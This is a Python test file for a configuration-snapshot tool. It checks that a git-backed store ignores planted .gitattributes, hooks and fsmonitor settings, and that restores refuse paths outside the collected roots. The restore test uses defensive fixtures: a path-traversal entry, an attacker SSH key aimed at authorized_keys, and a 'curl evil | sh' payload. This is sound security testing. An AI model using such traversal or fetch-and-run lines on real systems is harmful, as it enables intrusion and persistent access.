"""A host's files are data to the snapshot store, never instructions to git.

Everything goes through the real build (a tar as the collection script would send it)
and the real git store: planted ``.gitattributes``/``.gitignore``, a tar naming both
``a`` and ``a/b``, repo-local hooks and ``core.fsmonitor``, a take that fails half way,
and a forged ``file-list.txt`` naming a path outside the host's collected roots.
"""

from __future__ import annotations

import io
import subprocess
import tarfile
from pathlib import Path

import pytest

from vcops.errors import StoreError
from vcops.inventory.models import Inventory
from vcops.snapshot.build import build_server_snapshot
from vcops.snapshot.collect import Section, paths_for_roles
from vcops.snapshot.gitstore import SnapshotRepo
from vcops.snapshot.models import FileEntry, HostSnapshot
from vcops.snapshot.restore_plan import plan_server_restore
from vcops.snapshot.take import SnapshotContext, record

KEY = b"vcops-test-mask-key-0123456789ab"
ROOTS = paths_for_roles(["asterisk"])


def _tar(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.uname, info.gname = len(data), 0o644, "root", "root"
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _take(ctx: SnapshotContext, files: dict[str, str], name: str = "ast-01") -> str | None:
    sections = {"files": Section(rc=0, data=_tar(files)), "end": Section(rc=0, data=b"")}
    snap = build_server_snapshot(name, sections, ROOTS, KEY)
    commit, _ = record(ctx, [snap], "test", None, {})
    return commit


@pytest.fixture
def ctx(tmp_path: Path) -> SnapshotContext:
    return SnapshotContext(
        inventory=Inventory(root=tmp_path),
        repo=SnapshotRepo(tmp_path / "snapshots"),
        key=KEY,
        actor="tester",
    )


def _status(repo: SnapshotRepo) -> str:
    return repo.git("status", "--porcelain", "--untracked-files=all").stdout.decode()


def test_planted_attributes_and_ignore_files_have_no_effect(ctx: SnapshotContext) -> None:
    hostile = {
        "etc/asterisk/.gitattributes": "* working-tree-encoding=NOPE-ENC\n* text eol=crlf\n",
        "etc/asterisk/.gitignore": "*\n",
        "etc/asterisk/manager.conf": "[general]\nenabled = yes\n",
        "etc/asterisk/sub/.gitattributes": "*.conf filter=evil binary\n",
        "etc/asterisk/sub/pjsip.conf": "[transport-udp]\ntype=transport\n",
    }
    assert _take(ctx, hostile) is not None  # today: git add fails, every later take too
    stored = ctx.repo.read_tree("ast-01", "HEAD")
    # every file is there, byte for byte, under its real name
    for name, text in hostile.items():
        assert stored[f"files/{name}"] == text.encode(), name
    # ... and none of them is a .git* file in the working tree git reads
    planted = list(ctx.repo.path.rglob(".gitattributes")) + list(ctx.repo.path.rglob(".gitignore"))
    assert planted == [ctx.repo.path / ".gitattributes"]
    assert _status(ctx.repo) == ""
    # the next take works and sees a change in the planted file like any other
    hostile["etc/asterisk/.gitignore"] = "*.conf\n"
    assert _take(ctx, hostile) is not None
    diff = ctx.repo.diff("ast-01", "HEAD~1", "HEAD")
    assert [d.path for d in diff] == ["files/etc/asterisk/.gitignore"]


def test_a_tar_with_a_file_and_a_directory_of_the_same_name(ctx: SnapshotContext) -> None:
    files = {
        "etc/asterisk/extensions.conf": "[default]\n",
        "etc/asterisk/extensions.conf/evil.conf": "x\n",
        "etc/asterisk/pjsip.conf": "[global]\n",
    }
    sections = {"files": Section(rc=0, data=_tar(files))}
    snap = build_server_snapshot("ast-01", sections, ROOTS, KEY)
    assert any("extensions.conf/evil.conf" in w for w in snap.warnings)
    assert _take(ctx, files) is not None  # today: a raw FileExistsError
    stored = ctx.repo.read_tree("ast-01", "HEAD")
    assert stored["files/etc/asterisk/extensions.conf"] == b"[default]\n"
    assert "files/etc/asterisk/extensions.conf/evil.conf" not in stored


def test_repo_local_hooks_and_fsmonitor_never_run(ctx: SnapshotContext, tmp_path: Path) -> None:
    _take(ctx, {"etc/asterisk/a.conf": "1\n"})
    witness = tmp_path / "ran"
    hook = ctx.repo.path / ".git" / "hooks" / "post-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\necho hook >> {witness}\n")
    hook.chmod(0o755)
    monitor = tmp_path / "fsmonitor.sh"
    monitor.write_text(f"#!/bin/sh\necho fsmonitor >> {witness}\n")
    monitor.chmod(0o755)
    subprocess.run(
        ["git", "-C", str(ctx.repo.path), "config", "core.fsmonitor", str(monitor)], check=True
    )
    subprocess.run(
        ["git", "-C", str(ctx.repo.path), "config", "core.attributesFile", str(tmp_path / "attr")],
        check=True,
    )
    (tmp_path / "attr").write_text("* working-tree-encoding=NOPE-ENC\n")
    assert _take(ctx, {"etc/asterisk/a.conf": "2\n"}) is not None
    ctx.repo.diff("ast-01", "HEAD~1", "HEAD")
    assert not witness.exists(), witness.read_text()


def test_a_failed_take_leaves_the_tree_clean_and_the_next_take_works(
    ctx: SnapshotContext,
) -> None:
    _take(ctx, {"etc/asterisk/a.conf": "1\n"})
    good = build_server_snapshot(
        "ast-01",
        {"files": Section(rc=0, data=_tar({"etc/asterisk/a.conf": "2\n"}))},
        ROOTS,
        KEY,
    )
    broken = HostSnapshot(
        name="ast-02",
        kind="server",
        via="ssh",
        files={"files/etc/asterisk/b.conf": "b\n", "files/etc/asterisk/" + "x" * 300: "y\n"},
    )
    with pytest.raises(StoreError, match="ast-02: cannot store"):
        record(ctx, [good, broken], "half way", None, {})  # today: a raw OSError
    assert _status(ctx.repo) == ""  # today: ast-01 and ast-02 left behind, every take refused
    assert _take(ctx, {"etc/asterisk/a.conf": "3\n"}) is not None
    assert ctx.repo.read_tree("ast-01", "HEAD")["files/etc/asterisk/a.conf"] == b"3\n"


def test_file_names_no_filesystem_can_hold_are_left_out_with_a_warning() -> None:
    files = {"etc/asterisk/" + "x" * 300: "y\n", "etc/asterisk/ok.conf": "ok\n"}
    snap = build_server_snapshot("ast-01", {"files": Section(rc=0, data=_tar(files))}, ROOTS, KEY)
    assert list(k for k in snap.files if k.startswith("files/")) == ["files/etc/asterisk/ok.conf"]
    assert any("too long" in w for w in snap.warnings)


def test_restore_refuses_a_path_outside_the_hosts_collected_roots() -> None:
    forged_list = (
        "0644\troot\troot\tfile\t/etc/asterisk/manager.conf\n"
        "0600\troot\troot\tfile\t/root/.ssh/authorized_keys\n"
        "0600\troot\troot\tfile\t/etc/asterisk/../../root/.bashrc\n"
    )
    stored = {
        "file-list.txt": forged_list.encode(),
        "files/etc/asterisk/manager.conf": b"[general]\nenabled = no\n",
        "files/root/.ssh/authorized_keys": b"ssh-ed25519 AAAA attacker\n",
        "files/etc/asterisk/../../root/.bashrc": b"curl evil | sh\n",
    }
    live = [
        (
            FileEntry(path="/etc/asterisk/manager.conf", mode="0644", owner="root", group="root",
                      type="file"),
            "[general]\nenabled = yes\n",
        )
    ]  # fmt: skip
    plan = plan_server_restore(stored, live, KEY, roots=ROOTS)
    assert [w.path for w in plan.writes] == ["/etc/asterisk/manager.conf"]
    refused = {f.path: f.reason for f in plan.refused}
    assert set(refused) == {"/root/.ssh/authorized_keys", "/etc/asterisk/../../root/.bashrc"}
    assert all("outside" in r for r in refused.values())
